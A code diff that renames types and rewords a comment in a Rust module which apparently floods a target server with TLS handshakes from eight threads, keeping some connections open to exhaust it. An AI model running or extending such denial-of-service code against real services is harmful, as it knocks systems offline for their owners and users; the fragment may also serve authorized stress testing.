@@ -12,12 +12,12 @@ use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
 use rustls::pki_types::ServerName;
 use rustls::{ClientConfig, ClientConnection, RootCertStore};
 
-use super::attack::Hostility;
+use super::attack::AttackState;
 use super::site::Target;
 
 const THREADS: usize = 8;
 const PATIENCE: Duration = Duration::from_millis(500);
-/// Of so many handshakes one is kept open.
+/// One of this many handshakes is kept open.
 const KEPT_OPEN: usize = 4;
 const KEPT_MAX: usize = 60;
 
@@ -69,21 +69,21 @@ fn client_hello() -> Result<Vec<u8>> {
 }
 
 /// Begins handshakes as fast as the server answers, and leaves some of them open.
-pub fn begin_handshakes(target: &Target, hostility: &Hostility) {
+pub fn begin_handshakes(target: &Target, attack_state: &AttackState) {
     let (Some(address), Ok(hello)) = (&target.secure, client_hello()) else { return };
     std::thread::scope(|scope| {
         for _ in 0..THREADS {
             scope.spawn(|| {
                 let mut kept = Vec::new();
                 let mut count = 0;
-                while !hostility.is_over() {
+                while !attack_state.is_over() {
                     count += 1;
                     match begin(address, &hello) {
                         Ok(stream) if count % KEPT_OPEN == 0 => kept.push(stream),
                         Ok(_) => {}
                         Err(_) => std::thread::sleep(Duration::from_millis(5)),
                     }
-                    hostility.note(1);
+                    attack_state.note(1);
                     if kept.len() > KEPT_MAX {
                         kept.clear();
                     }
